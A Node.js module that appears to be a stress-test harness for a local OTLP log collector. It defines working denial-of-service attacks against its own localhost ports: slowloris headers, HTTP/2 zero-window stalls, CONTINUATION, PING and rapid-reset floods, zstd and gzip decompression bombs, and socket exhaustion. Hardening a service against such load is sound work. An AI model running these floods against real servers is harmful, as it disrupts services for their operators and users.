// Who wants the core, the memory or the connections of a program on this machine. Each attack is a
// function that begins it on the program's ports; it goes on until its process ends, and who was
// thrown out comes again.
import { spawnSync } from 'node:child_process';
import http from 'node:http';
import net from 'node:net';
import zlib from 'node:zlib';
import { encodeLogs, request } from '../../e2e/lib/otlp.mjs';

const MIB = 1 << 20;
const AGAIN_MS = 100;

// ---- connections

// One that comes again: `on(socket)` at each connection. Not read unless `reads`.
function caller(port, on, { reads = false } = {}) {
  const dial = () => {
    const socket = net.connect(port, '127.0.0.1', () => on(socket));
    if (reads) socket.resume();
    else socket.pause();
    socket.on('error', () => {}).on('close', () => setTimeout(dial, AGAIN_MS));
  };
  dial();
}
const crowd = (n, port, on, options) => {
  for (let i = 0; i < n; i++) caller(port, on, options);
};

// Writes as long as the peer takes it; an open socket that is not read sees no end but in write().
function flood(socket, bytes) {
  const more = () => {
    while (!socket.destroyed && socket.write(bytes));
  };
  socket.on('drain', more);
  more();
}

// `bytes` every ms; true when it was closed meanwhile.
const drip = (socket, bytes, ms) => {
  const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : socket.write(bytes)), ms);
};

const head = (length, type = 'application/x-protobuf') => `POST /v1/logs HTTP/1.1\r\nHost: localhost\r\nContent-Type: ${type}\r\nContent-Length: ${length}\r\n\r\n`;

// ---- HTTP/2 by hand

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const bytes = Buffer.alloc(9);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(stream, 5);
  return Buffer.concat([bytes, payload]);
};
const [DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9];
const END_STREAM = 1, END_HEADERS = 4;
const setting = (id, value) => {
  const bytes = Buffer.alloc(6);
  bytes.writeUInt16BE(id, 0);
  bytes.writeUInt32BE(value, 2);
  return bytes;
};
const SHUT = setting(4, 0); // SETTINGS_INITIAL_WINDOW_SIZE
const hello = (...settings) => Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0, Buffer.concat(settings))]);
const text = (index, value) => Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]); // a literal that is not indexed
const block = (method, path) => Buffer.concat([Buffer.from([method === 'POST' ? 0x83 : 0x82, 0x86]), text(0x04, path), text(0x01, 'localhost')]);
const streams = (n, make) => Buffer.concat(Array.from({ length: n }, (_, i) => make(2 * i + 1)));

// ---- bodies

function zstd(bytes) {
  const done = spawnSync('zstd', ['-q', '-c'], { input: bytes, maxBuffer: 64 * MIB });
  if (done.status !== 0) throw new Error('the program zstd is needed');
  return done.stdout;
}
const ONE_LINE = 'the same line again and again, for the compressor';
const SWELLING = () => [
  ['application/x-protobuf', Buffer.alloc(19 * MIB)],
  ['application/json', Buffer.from(`{"resourceLogs":[]${' '.repeat(19 * MIB)}}`)],
  ['application/x-protobuf', encodeLogs(request(150000, { service: 'swelling', body: () => ONE_LINE }))],
];

// `n` at a time, each sent again when it is answered.
function senders(n, port, posts) {
  const agent = new http.Agent({ keepAlive: true, maxSockets: n });
  const one = (i) => {
    const [headers, body] = posts[i % posts.length];
    let is_over = false;
    const again = () => {
      if (is_over) return;
      is_over = true;
      setTimeout(one, 5, i + 1);
    };
    const req = http.request({ host: '127.0.0.1', port, path: '/v1/logs', method: 'POST', agent, headers: { ...headers, 'content-length': body.length } }, (res) => res.resume().on('close', again));
    req.on('error', again);
    req.end(body);
  };
  for (let i = 0; i < n; i++) one(i);
}

// Frames of one kind, as fast as they go, on eight connections that read the answers and eight that do not.
const floods = (make) => ({ http: port, grpc }) => {
  const bytes = make();
  crowd(8, port, (socket) => (socket.write(hello()), flood(socket, bytes)), { reads: true });
  crowd(8, grpc, (socket) => (socket.write(hello()), flood(socket, bytes)));
};

// ---- the attacks: {what, run(ports)}; `settings`: of the program

export const ATTACKS = {
  'announced bodies': {
    what: '400 connections announce 20 MiB each and send 600 bytes a second',
    run: ({ http: port }) => crowd(400, port, (socket) => (socket.write(head(20 * MIB)), drip(socket, Buffer.alloc(600), 1000)), { reads: true }),
  },
  'half a body': {
    what: '16 connections send 8 of 20 MiB and are silent',
    run: ({ http: port }) => crowd(16, port, (socket) => (socket.write(head(20 * MIB)), socket.write(Buffer.alloc(8 * MIB))), { reads: true }),
  },
  'pipelined 404s': {
    what: '1,000 connections pipeline 4,000 requests each and read nothing',
    run: ({ http: port }) => {
      const many = Buffer.from('GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(4000));
      crowd(1000, port, (socket) => socket.write(many));
    },
  },
  'window of 0': {
    what: '200 HTTP/2 connections with 100 answers each that their window keeps shut',
    run: ({ http: port }) => {
      const many = Buffer.concat([hello(SHUT), streams(100, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id, block('POST', '/nothing')))]);
      crowd(200, port, (socket) => socket.write(many), { reads: true });
    },
  },
  'pages, window of 0': {
    what: '60 HTTP/2 connections to the admin port, 100 pages of 5,000 patterns each, window shut',
    run: async ({ http: port, admin }) => {
      const line = (i) => `${['red', 'green', 'blue', 'black', 'white'][i % 5]} ${String.fromCharCode(97 + (i / 5) % 26, 97 + (i / 130) % 26, 97 + (i / 3380) % 26)} of things`;
      for (let i = 0; i < 10; i++)
        await fetch(`http://127.0.0.1:${port}/v1/logs`, { method: 'POST', headers: { 'content-type': 'application/x-protobuf' }, body: encodeLogs(request(500, { service: `many-${i}`, body: (k) => line(500 * i + k) })) });
      const many = Buffer.concat([hello(SHUT), streams(100, (id) => frame(HEADERS, END_HEADERS | END_STREAM, id, block('GET', '/api/patterns?limit=16384')))]);
      crowd(60, admin, (socket) => socket.write(many), { reads: true });
    },
  },
  'dribbling heads': {
    what: '2,000 connections send a byte of a head each second',
    run: ({ http: port, grpc }) => {
      for (const p of [port, grpc]) crowd(1000, p, (socket) => (socket.write('POST /v1/logs HTTP/1.1\r\nX: '), drip(socket, 'x', 1000)), { reads: true });
    },
  },
  'open streams': {
    what: '60 HTTP/2 connections with 128 streams each, whose bodies have begun',
    run: ({ grpc }) => {
      const many = Buffer.concat([hello(), streams(128, (id) => Buffer.concat([frame(HEADERS, END_HEADERS, id, block('POST', '/v1/logs')), frame(DATA, 0, id, Buffer.alloc(135))]))]);
      crowd(60, grpc, (socket) => socket.write(many), { reads: true });
    },
  },
  'bodies that swell': {
    what: '20 at a time of zstd, 2 to 30 KiB that are 19 MiB',
    run: ({ http: port }) => senders(20, port, SWELLING().map(([type, body]) => [{ 'content-type': type, 'content-encoding': 'zstd' }, zstd(body)])),
  },
  'JSON that never fits': {
    what: '20 at a time of gzip, 19 MiB of empty objects and of brackets',
    run: ({ http: port }) => {
      const posts = [`{"resourceLogs":[${'{},'.repeat(6.3 * MIB)}{}]}`, `{"a":${'[1,'.repeat(6 * MIB)}`, `{"resourceLogs":[${'{"scopeLogs":[{"logRecords":[{"body":{"stringValue":"x"}}]}]},'.repeat(300000)}{}]}`];
      senders(20, port, posts.map((body) => [{ 'content-type': 'application/json', 'content-encoding': 'gzip' }, zlib.gzipSync(body)]));
    },
  },
  'silent sockets': {
    what: '1,024 to each OTLP port, 100 to health and to admin',
    run: ({ http: port, grpc, health, admin }) => {
      for (const p of [port, grpc]) crowd(1024, p, () => {}, { reads: true });
      for (const p of [health, admin]) crowd(100, p, () => {}, { reads: true });
    },
  },
  'CONTINUATION frames': {
    what: '16 connections, as fast as they go',
    run: floods(() => Buffer.concat([frame(HEADERS, 0, 1, block('POST', '/v1/logs')), ...Array.from({ length: 6000 }, () => frame(CONTINUATION, 0, 1, Buffer.from([0, 1, 120, 1, 121])))])),
  },
  'PING frames': { what: 'the same', run: floods(() => Buffer.concat(Array(4000).fill(frame(PING, 0, 0, Buffer.alloc(8))))) },
  'SETTINGS frames': { what: 'the same', run: floods(() => Buffer.concat(Array(4000).fill(frame(SETTINGS, 0, 0, setting(4, 65535))))) },
  'reset streams': {
    what: 'the same: each stream is begun and reset',
    run: floods(() => streams(4000, (id) => Buffer.concat([frame(HEADERS, END_HEADERS, id, block('POST', '/v1/logs')), frame(RST, 0, id, Buffer.from([0, 0, 0, 8]))]))),
  },
  'connections': {
    what: '100 at a time that are closed as soon as they are open, half of them by a reset',
    run: ({ http: port, grpc }) => {
      for (const p of [port, grpc]) crowd(50, p, (socket) => (Math.random() < 0.5 ? socket.resetAndDestroy() : socket.destroy()));
    },
  },
};
